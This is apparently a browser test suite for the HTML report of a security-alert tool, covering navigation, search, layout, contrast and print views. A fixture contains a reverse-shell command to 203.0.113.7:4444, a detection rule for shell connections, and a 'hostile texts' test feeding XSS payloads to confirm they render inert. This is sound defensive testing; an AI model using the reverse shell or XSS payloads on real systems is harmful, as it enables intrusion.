// The page in a browser: what a reader sees, clicks and types. Skipped where no Chromium is installed.
import { afterAll, afterEach, beforeAll, describe, expect, test } from '@jest/globals';
import type { Alert } from '../../../src/alert/index.js';
import { CONNECTION, INTERACTIVE_SHELL, alertOf, eventAt, keyOf } from '../../support/alerts.js';
import { Browser, CHROMIUM } from '../../support/browser.js';
import { finishedRun, summaryWith } from '../summaries.js';
import { alertOn, manyAlerts, PageFolder, pageOf, ruleOf } from './pages.js';

const inBrowser = CHROMIUM === null ? describe.skip : describe;
if (CHROMIUM === null) console.warn('no Chromium: the page of the HTML report is not tested');

const SEQUENCE = ruleOf(
  `sequence by host.id, user.id with maxspan=5s
  [network where event.action == "connection_attempted" and process.name in ("sh", "bash")
    and not cidrmatch(destination.ip, "127.0.0.0/8")]
  [process where event.type == "start" and (process.args == "-i" or process.name == "zsh")]`,
  {
    note: '## Triage\n\n- Look at the **destination**.\n- See [the page](https://example.org/a).\n- Not [this](javascript:alert(1)).',
  },
);

const CHAIN = alertOf(
  'chain',
  SEQUENCE,
  [eventAt(118, CONNECTION), eventAt(121, INTERACTIVE_SHELL)],
  keyOf('9f2c1c9b8e7d4f6a', '33'),
);

inBrowser('the page', () => {
  let browser: Browser;
  const pages = new PageFolder();
  const few = pages.add(pageOf([...manyAlerts(30), CHAIN]));

  beforeAll(async () => {
    browser = await Browser.start(CHROMIUM ?? '');
    await browser.resize(1440, 900);
  }, 60_000);

  afterAll(async () => {
    await browser.close();
    pages.remove();
  });

  // Whatever a test does: no exception, no message, nothing refused by the policy, and no address but the file.
  afterEach(() => {
    expect(browser.complaints.splice(0)).toEqual([]);
    expect(browser.requests.filter((address) => !/^(?:file:|about:)/.test(address))).toEqual([]);
  });

  const text = (selector: string): Promise<string> =>
    browser.evaluate(`document.querySelector(${JSON.stringify(selector)})?.innerText ?? ''`);
  const count = (selector: string): Promise<number> =>
    browser.evaluate(`document.querySelectorAll(${JSON.stringify(selector)}).length`);
  const hash = (): Promise<string> => browser.evaluate('location.hash');

  test('opens with severities, timeline and matrix', async () => {
    await browser.open(few);
    expect(await text('h1')).toBe('31 alerts, 20 high or critical');
    expect(await text('.tile.sev-critical')).toContain('10');
    expect(await count('.bin')).toBeGreaterThan(5);
    expect(await text('.matrix')).toContain('Unix Shell');
    expect(await text('.ranking')).toContain('Rule 0');
  });

  test('a severity, a host and a technique lead to their alerts', async () => {
    await browser.open(few);
    await browser.click('.tile.sev-critical');
    expect(await hash()).toBe('#alerts?severity=critical');
    expect(await text('.list-count')).toBe('10 alerts');
    await browser.press('1');
    await browser.press('x');
    await browser.click('.cell-sub');
    expect(await hash()).toBe('#alerts?attack=T1059.004');
    expect(await text('.list-count')).toBe('31 alerts');
    await browser.click('.facet:nth-of-type(2) .choice input');
    expect(await hash()).toContain('host=');
    expect(await count('.chip')).toBe(2);
    await browser.click('.chip button');
    expect(await count('.chip')).toBe(1);
  });

  test('a search finds commands, addresses and techniques', async () => {
    await browser.open(`${few}#alerts`);
    await browser.press('/');
    await browser.type('port-17');
    await browser.until('document.querySelector(".list-count").innerText === "1 alert"');
    expect(await hash()).toBe('#alerts?q=port-17');
    await browser.open(`${few}#alerts?q=${encodeURIComponent('"203.0.113.7:4444" t1059 root')}`);
    expect(await text('.list-count')).toBe('30 alerts');
  });

  test('keys walk through the alerts, and Escape closes', async () => {
    await browser.open(`${few}#alerts?order=oldest`);
    await browser.press('j');
    await browser.until('document.querySelector(".story")');
    const first = await hash();
    await browser.press('j');
    expect(await hash()).not.toBe(first);
    expect(await text('.story-bar')).toContain('2 of 31');
    await browser.press('k');
    expect(await hash()).toBe(first);
    await browser.press('Escape');
    expect(await count('.story')).toBe(0);
    await browser.press('?');
    await browser.until('document.querySelector("dialog[open]")');
    await browser.press('Escape');
    await browser.until('document.querySelector("dialog") === null');
  });

  test('an alert tells its story', async () => {
    await browser.open(`${few}#${CHAIN.id.slice(0, 8)}`);
    expect(await text('.story-head h2')).toBe(CHAIN.rule.name);
    expect(await text('.chain')).toMatch(/network connection_attempted[^]*\+416 ms/);
    expect(await text('.tree')).toContain('bash -c exec bash -i &>/dev/tcp/203.0.113.7/4444');
    expect(await text('.peers')).toContain('203.0.113.7:4444');
    expect(await text('.story')).toContain('Look at the destination.');
    const links = await browser.evaluate<string[]>(
      '[...document.querySelectorAll(".story a[target]")].map((link) => link.href)',
    );
    expect(links).toContain('https://attack.mitre.org/techniques/T1059/004/');
    expect(links).toContain('https://example.org/a');
    expect(links.filter((link) => !link.startsWith('https://'))).toEqual([]);
  });

  test('the query is marked where it held', async () => {
    await browser.open(`${few}#${CHAIN.id}`);
    const marks = await browser.evaluate<string[]>(
      '[...document.querySelectorAll(".query mark")].map(({ textContent }) => textContent)',
    );
    const decisive = await browser.evaluate<string[]>(
      '[...document.querySelectorAll(".query .q-decisive")].map(({ textContent }) => textContent)',
    );
    expect(decisive).toEqual(['"connection_attempted"', '"bash"', '"start"', '"-i"']);
    expect(marks.join('')).toContain('cidrmatch(destination.ip');
    expect(marks.join('')).not.toContain('zsh');
    expect(await text('.query')).toBe(CHAIN.rule.query);
  });

  test('a raw event opens, from its place in the chain too', async () => {
    await browser.open(`${few}#${CHAIN.id}`);
    await browser.click('.chain .place');
    await browser.until('document.querySelector("#event-1 .json")');
    const json = await browser.evaluate<string>(
      'document.querySelector("#event-1 .json").textContent',
    );
    expect(JSON.parse(json)).toEqual(CONNECTION);
    expect(await hash()).toBe(`#${CHAIN.id}`);
  });

  test('the timeline zooms by a drag, and by keys', async () => {
    await browser.open(few);
    await browser.until('document.querySelector(".plot").clientWidth > 500');
    await browser.drag('.plot', 0.1, 0.5);
    await browser.until('location.hash.includes("from=")');
    await browser.until('Number.parseInt(document.querySelector(".tab-count").innerText) < 31');
    await browser.evaluate('document.querySelector(".timeline").focus()');
    await browser.press('0');
    await browser.until('location.hash === "#overview"');
    await browser.until('Number.parseInt(document.querySelector(".tab-count").innerText) === 31');
  });

  test('groups open and close', async () => {
    await browser.open(`${few}#alerts?group=rule`);
    expect(await count('.group')).toBeGreaterThan(0);
    const lines = await count('.alert');
    await browser.click('.group');
    expect(await count('.alert')).not.toBe(lines);
    expect(await browser.evaluate('document.querySelector(".group").ariaExpanded')).toBe('false');
  });

  test('going back in the browser goes back here', async () => {
    await browser.open(few);
    await browser.click('.tab:nth-child(2)');
    expect(await hash()).toBe('#alerts');
    await browser.evaluate('history.back()');
    await browser.until('document.querySelector(".overview")');
  });

  test('ten thousand alerts are a handful of elements', async () => {
    const many = pages.add(pageOf(manyAlerts(10_000)));
    await browser.open(`${many}#alerts?order=oldest`);
    expect(await text('.list-count')).toBe('10,000 alerts');
    expect(await count('.line')).toBeLessThan(40);
    await browser.evaluate('document.querySelector(".list").scrollTop = 1e9');
    await browser.until('document.querySelector(".list").innerText.includes("port-9999")');
    expect(await count('.line')).toBeLessThan(40);
    await browser.evaluate('document.querySelector(".list").focus()');
    await browser.press('Home');
    await browser.until('document.querySelector(".list").scrollTop === 0');
  }, 60_000);

  test.each([
    [1440, 900],
    [390, 844],
  ])('nothing is wider than a screen of %d', async (width, height) => {
    await browser.resize(width, height);
    for (const view of ['overview', 'alerts', 'run', CHAIN.id]) {
      await browser.open(`${few}#${view}`);
      const widest = await browser.evaluate<number>('document.documentElement.scrollWidth');
      expect(`${view} ${Math.max(widest, width)}`).toBe(`${view} ${width}`);
    }
    await browser.resize(1440, 900);
  });

  test('a long command of the run is read from its first character on a narrow screen', async () => {
    const alerts = manyAlerts(3);
    const run = finishedRun(alerts);
    const command = `rshell-scan ${'-o csv=/a/rather/long/path/alerts.csv '.repeat(40)}`;
    await browser.resize(390, 844);
    await browser.open(pages.add(pageOf(alerts, { ...run, command })).concat('#run'));
    const [box, text] = await browser.evaluate<[number, number]>(
      '[".run-command", ".run-command code"].map((found) => document.querySelector(found).getBoundingClientRect().height)',
    );
    expect(text).toBeLessThan(box);
    await browser.resize(1440, 900);
  });

  test('a narrow screen shows the list, then the alert, then the list', async () => {
    await browser.resize(390, 844);
    await browser.open(`${few}#alerts`);
    await browser.click('.line.alert');
    await browser.until('document.querySelector(".story")');
    expect(await browser.evaluate('document.querySelector(".list-pane").offsetHeight')).toBe(0);
    await browser.click('.back');
    expect(await browser.evaluate('document.querySelector(".list-pane").offsetHeight > 0')).toBe(
      true,
    );
    await browser.resize(1440, 900);
  });

  test('text has enough contrast, dark and light', async () => {
    for (const scheme of ['light', 'dark'] as const) {
      await browser.media('screen', scheme);
      for (const view of ['overview', CHAIN.id]) {
        await browser.open(`${few}#${view}`);
        expect([scheme, await browser.evaluate(LOW_CONTRAST)]).toEqual([scheme, []]);
      }
    }
    await browser.media('screen', 'light');
  });

  test('on paper there are no tools, and the alert is whole', async () => {
    await browser.open(`${few}#${CHAIN.id}`);
    await browser.media('print', 'light');
    expect(await browser.evaluate('document.querySelector(".tools").offsetHeight')).toBe(0);
    expect(await browser.evaluate('document.querySelector(".list-pane").offsetHeight')).toBe(0);
    expect(await browser.evaluate('document.querySelector(".story").offsetHeight')).toBeGreaterThan(
      600,
    );
    await browser.media('screen', 'light');
  });

  test('input that was lost is told above all', async () => {
    await browser.open(
      pages.add(pageOf([], finishedRun([], { summary: summaryWith({ losses: 2 }) }))),
    );
    expect(await text('.banner')).toContain('Input was gone before it could be read, 2 times');
  });

  test('a page that was cut off says so, and shows what it has', async () => {
    const whole = pageOf(manyAlerts(5));
    const at = whole.lastIndexOf('data-kind="story"');
    await browser.open(pages.add(whole.slice(0, at + 60)));
    expect(await text('.banner')).toContain('cut off');
    expect(await text('h1')).toContain('5 alerts');
  });

  test('no alerts are told as such', async () => {
    await browser.open(pages.add(pageOf([])));
    expect(await text('h1')).toBe('No alerts');
    expect(await text('.verdict')).toContain('12,000 events read');
    await browser.press('3');
    expect(await text('.run')).toContain('events.ndjson');
  });

  test('alerts of an earlier run need no summary', async () => {
    const alerts = manyAlerts(3);
    await browser.open(pages.add(pageOf(alerts, { ...finishedRun(alerts), summary: null })));
    expect(await text('h1')).toContain('3 alerts');
    await browser.press('3');
    expect(await text('.run')).toContain('saved by an earlier run');
  });

  test('a command of several lines takes one in the list', async () => {
    const rule = ruleOf('any where true');
    const alertWith = (command: string): Alert =>
      alertOn(command, rule, { ...CONNECTION, process: { pid: 1, command_line: command } });
    const alerts = [alertWith('sh -c id'), alertWith(`sh -c ${'id\n'.repeat(9)}`)];
    await browser.open(pages.add(pageOf(alerts)).concat('#alerts'));
    const [first, second] = await browser.evaluate<number[]>(
      '[...document.querySelectorAll(".line-gist")].map(({ offsetHeight }) => offsetHeight)',
    );
    expect(second).toBe(first);
  });

  test('hostile texts are text', async () => {
    const evil = [
      '</script><script>globalThis.broken = 1</script>',
      '<img src=x onerror="globalThis.broken = 1">',
      '<!--<script>',
      'javascript:globalThis.broken=1',
      '\u2028\u2029\u202e\u0000\u001b[31m\ud800',
      '__proto__',
      ']]>&lt;b&gt;',
    ].join(' ');
    const rule = ruleOf('any where true', {
      name: evil,
      note: `${evil}\n\n[a](javascript:alert(1)) <b>x</b>`,
      description: evil,
      references: ['javascript:alert(1)', evil],
      falsePositives: [evil],
    });
    const document = {
      ...INTERACTIVE_SHELL,
      host: { name: evil },
      user: { name: evil },
      process: { pid: 1, name: evil, command_line: evil, args: [evil] },
      destination: { ip: evil, port: 1 },
      file: { path: evil },
      ['__proto__']: evil,
    };
    const alert = alertOn('evil', rule, document);
    await browser.open(pages.add(pageOf([alert])));
    expect(await text('.ranking')).toContain('<img src=x onerror=');
    // What would turn the line around, or not be seen, is seen.
    expect(await text('.ranking')).toContain('\\u202e\\x00\\x1b[31m');
    await browser.open(pages.add(pageOf([alert])).concat(`#${alert.id}`));
    await browser.evaluate(
      'document.querySelectorAll("details").forEach((each) => { each.open = true; })',
    );
    await browser.until('document.querySelector(".json")');
    expect(await text('.tree')).toContain('</script><script>');
    expect(await browser.evaluate('globalThis.broken')).toBeUndefined();
    expect(await count('img, b, iframe, script:not([type])')).toBe(0);
    const links = await browser.evaluate<string[]>(
      '[...document.querySelectorAll("a")].map(({ href }) => new URL(href).protocol)',
    );
    expect([...new Set(links)].sort()).toEqual(['file:', 'https:']);
  });

  test('the policy lets nothing else run', async () => {
    await browser.open(few);
    await browser.evaluate(
      `(() => { const script = document.createElement('script'); script.textContent = 'globalThis.broken = 1'; document.body.append(script); })()`,
    );
    expect(await browser.evaluate('globalThis.broken')).toBeUndefined();
    expect(browser.complaints.splice(0).join()).toContain('Content Security Policy');
  });
});

/** Texts in sight with a contrast under 4.5 to what is behind them. */
const LOW_CONTRAST = `(() => {
  const canvas = document.createElement('canvas').getContext('2d', { willReadFrequently: true });
  const rgba = (colour) => {
    canvas.clearRect(0, 0, 1, 1);
    canvas.fillStyle = colour;
    canvas.fillRect(0, 0, 1, 1);
    const [r, g, b, a] = canvas.getImageData(0, 0, 1, 1).data;
    return [r, g, b, a / 255];
  };
  const over = ([r, g, b, a], [x, y, z]) => [r * a + x * (1 - a), g * a + y * (1 - a), b * a + z * (1 - a)];
  const behind = (element) => {
    const layers = [];
    for (let at = element; at !== null; at = at.parentElement) layers.push(rgba(getComputedStyle(at).backgroundColor));
    return layers.reverse().reduce((under, layer) => over(layer, under), [255, 255, 255]);
  };
  const light = (rgb) => {
    const [r, g, b] = rgb.map((part) => (part / 255 <= 0.03928 ? part / 3294.6 : ((part / 255 + 0.055) / 1.055) ** 2.4));
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const low = [];
  for (const element of document.querySelectorAll('#app *')) {
    const isText = [...element.childNodes].some((node) => node.nodeType === 3 && node.data.trim() !== '');
    if (!isText || element.closest('svg, .visually-hidden, :disabled') !== null || element.offsetParent === null) continue;
    let opacity = 1;
    for (let at = element; at !== null; at = at.parentElement) opacity *= Number(getComputedStyle(at).opacity);
    const back = behind(element);
    const [r, g, b, a] = rgba(getComputedStyle(element).color);
    const [one, two] = [light(over([r, g, b, a * opacity], back)), light(back)];
    const ratio = (Math.max(one, two) + 0.05) / (Math.min(one, two) + 0.05);
    if (ratio < 4.5) low.push(element.className + ' ' + element.textContent.slice(0, 30) + ' ' + ratio.toFixed(2));
  }
  return low;
})()`;
